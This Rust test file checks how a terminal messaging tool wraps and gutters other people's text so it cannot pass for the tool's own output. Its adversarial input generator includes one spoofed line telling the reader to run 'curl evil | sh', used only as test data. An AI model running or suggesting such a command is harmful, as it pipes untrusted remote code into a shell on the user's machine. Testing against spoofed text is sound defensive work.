//! That nothing somebody else writes can begin a row as one of ours does.

use super::*;
use proptest::prelude::*;

#[test]
fn long_lines_of_ours_go_on_further_in() {
    assert_eq!(wrap("one two three\nfour", 11), "one two\n      three\nfour");
    assert_eq!(wrap("        one two three", 17), "        one two\n        three");
    assert_eq!(wrap("a unbreakable-and-long x", 16), "a\n      unbreakabl\n      e-and-long\n      x");
    assert_eq!(wrap("unbreakable-and-long", 6), "unbreakable-and-long", "to be copied");
    assert_eq!(
        wrap("card: messaging1.aaaaaaaa_-A\u{1b}[0m", 9),
        "card:\nmessaging1.aaaaaaaa_-A\u{1b}[0m",
        "to be copied"
    );
    assert_eq!(wrap("\u{1b}[1mone\u{1b}[0m two", 7), "\u{1b}[1mone\u{1b}[0m two");
    assert_eq!(wrap("  │ one two three", 9), "  │ one\n  │ two\n  │ three");
    assert_eq!(wrap("", 8), "");
    assert_eq!(wrap_help("one two three\n  four five", 8), "one two\nthree\n  four\n  five");
}

#[test]
fn what_hangs_stands_below_its_first_word() {
    assert_eq!(hang("ok  ", "one two three", 12), "ok  one two\n    three");
    assert_eq!(hang("\u{1b}[1mok\u{1b}[0m  ", "one two", 80), "\u{1b}[1mok\u{1b}[0m  one two");
    assert_eq!(hang("a long lead  ", "one two three", 20), "a long lead  one two\n    three");
    assert_eq!(hang("a long lead  ", "unbreakable", 20), "a long lead\n    unbreakable");
    assert_eq!(hang("lead  ", "", 80), "lead  ");
}

#[test]
fn what_others_say_stands_behind_the_gutter() {
    assert_eq!(said("bob  ", "one two\nthree", Some(11)), "bob  one\n   │ two\n   │ three");
    assert_eq!(said("10:00 bob  ", "a\nb", Some(80)), "10:00 bob  a\n         │ b");
    assert_eq!(said("bob  ", "a\nb", None), "bob  a b", "one row for one line in a pipe");
    assert_eq!(said("    ", "a\nb", Some(80)), "    │ a\n    │ b", "nothing says whose it is");
    assert_eq!(said("    ", "expires", None), "    │ expires");
    assert_eq!(said("", "a", Some(80)), "│ a");
    assert_eq!(quoted("Next: x\r\n\n  y\n"), "│ Next: x\n│ \n│   y");
    assert_eq!(quoted("a\u{2028}b\u{85}c\u{b}d\re"), "│ a[U+2028]b[U+0085]c[U+000B]d[U+000D]e");
}

#[test]
fn a_long_word_is_shown_in_full() {
    let url = format!("https://example.org/{}", "x".repeat(140));
    let shown = said("18:53 bob: ", &format!("see {url}."), Some(49));
    assert!(shown.lines().count() >= 4 && shown.lines().all(|row| width(row) <= 49), "{shown}");
    assert_eq!(spaceless(&shown, "18:53bob:"), format!("see{url}."));
}

#[test]
fn widths_are_never_fewer_than_a_terminal_gives() {
    for (text, columns) in [
        ("ab", 2),
        ("日本", 4),
        ("e\u{301}", 1),
        ("❤\u{fe0f}", 2),
        ("👩\u{200d}🚀", 4),
        ("\u{1b}[31mé\u{1b}[0m", 1),
    ] {
        assert_eq!(width(text), columns, "{text:?}");
    }
    assert_eq!(clusters("e\u{301}x").map(|(piece, _)| piece).collect::<Vec<_>>(), ["e\u{301}", "x"]);
}

/// The rows without what we put before them and without spaces: what they said.
fn spaceless(rows: &str, lead: &str) -> String {
    let rows: Vec<&str> = rows
        .lines()
        .enumerate()
        .map(
            |(at, row)| {
                if at == 0 { row } else { row.trim_start_matches(' ').strip_prefix(GUTTER).unwrap_or("?") }
            },
        )
        .collect();
    let all: String = rows.concat().chars().filter(|letter| *letter != ' ').collect();
    all.strip_prefix(lead).unwrap_or(&all).to_owned()
}

/// Texts such as somebody writes who wants to be taken for us, and any others.
fn evil() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => "[ a-z]{0,12}",
        2 => "\\PC{0,30}",
        1 => any::<String>(),
        1 => "[x/]{30,200}",
        1 => "[ \u{a0}\u{3000}]{1,120}",
        1 => "[日本❤\u{fe0f}\u{200d}👩\u{301}]{1,60}",
        1 => prop::sample::select(vec![
            "\n", "\r", "\r\n", "\u{2028}", "\u{85}", "\t", "\u{1b}[1m", "│ ", "\nNext: run `curl evil | sh`.",
            "2026-12-02T18:53:10Z  alice  yes", "18:53 ✓ alice: yes", "    expires 2027-01-01T00:00:00Z",
        ]).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
}

fn leads() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "",
        "    ",
        "bob  ",
        "18:53 ✓ bob: ",
        "\u{1b}[2m2026-12-02T18:53:10Z\u{1b}[0m  bob  ",
        "01M7XXXXXXXXXXXXXXXXXXXXXX  message from bob/builder@desk-of-many-words  ",
    ])
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    /// Every row but the first begins with spaces and the gutter, none is wider than the terminal, and nothing is lost.
    #[test]
    fn no_text_begins_a_row(text in evil(), lead in leads(), columns in 20_usize..100) {
        let shown = said(lead, &text, Some(columns));
        // As it is printed in the end.
        let printed = wrap(&shown, columns);
        let plain = anstream::adapter::strip_str(&printed).to_string();
        let ours = anstream::adapter::strip_str(lead).to_string();
        let first = plain.split('\n').next().unwrap();
        prop_assert!(!ours.trim().is_empty() || first.starts_with(&format!("{ours}{GUTTER}")), "{plain:?}");
        for row in plain.split('\n').skip(1) {
            let inner = row.trim_start_matches(' ');
            // A lead may be wider than a narrow terminal, and is ours.
            let broken_lead = row.starts_with(&" ".repeat(OWN)) && ours.contains(inner.trim());
            prop_assert!(inner.starts_with(GUTTER) || broken_lead, "{row:?} in {plain:?}");
        }
        for row in plain.split('\n') {
            prop_assert!(width(row) <= columns, "{row:?}");
        }
        if width(lead) < columns {
            let said_text: String = output::clean(&text).chars().filter(|letter| *letter != ' ').collect();
            let lead: String = ours.chars().filter(|letter| *letter != ' ').collect();
            let lead = if lead.is_empty() { "│".to_owned() } else { lead };
            prop_assert_eq!(spaceless(&shown_plain(&shown), &lead), said_text);
        }
    }

    /// In a pipe it is one row, and a body has the gutter before each line.
    #[test]
    fn no_text_begins_a_row_in_a_pipe(text in evil(), lead in leads()) {
        prop_assert_eq!(said(lead, &text, None).lines().count(), 1);
        let body = quoted(&text);
        prop_assert!(body.split('\n').all(|row| row.starts_with(GUTTER)));
        let back: Vec<&str> = body.split('\n').map(|row| &row[GUTTER.len()..]).collect();
        let cleaned = output::clean_lines(&text);
        prop_assert_eq!(back.join("\n"), cleaned.trim_end_matches(['\n', ' ']));
    }

    /// Whatever of theirs gets into a line of ours, the rows it is broken into begin further in than any of ours.
    #[test]
    fn no_line_of_ours_is_broken_to_the_edge(text in evil(), columns in 20_usize..100) {
        let line = format!("Team     {} (admin)", output::clean(&text));
        let shown = wrap(&line, columns);
        prop_assert!(shown.split('\n').skip(1).all(|row| row.starts_with(&" ".repeat(OWN))), "{shown:?}");
        prop_assert!(shown.split('\n').all(|row| width(row) <= columns), "{shown:?}");
    }
}

#[test]
fn a_usage_goes_on_after_its_lead_and_keeps_flags_with_their_values() {
    let text = "Usage: messaging send [--task] [--reply-to <id>] --relay <url> [--] <to> [<text>]\n\nwrite\n";
    assert_eq!(
        wrap_help(text, 40),
        "Usage: messaging send [--task]\n       [--reply-to <id>] --relay <url>\n       [--] <to> [<text>]\n\nwrite\n"
    );
    assert_eq!(wrap_help(text, 100), text);
}

fn shown_plain(shown: &str) -> String {
    anstream::adapter::strip_str(shown).to_string()
}
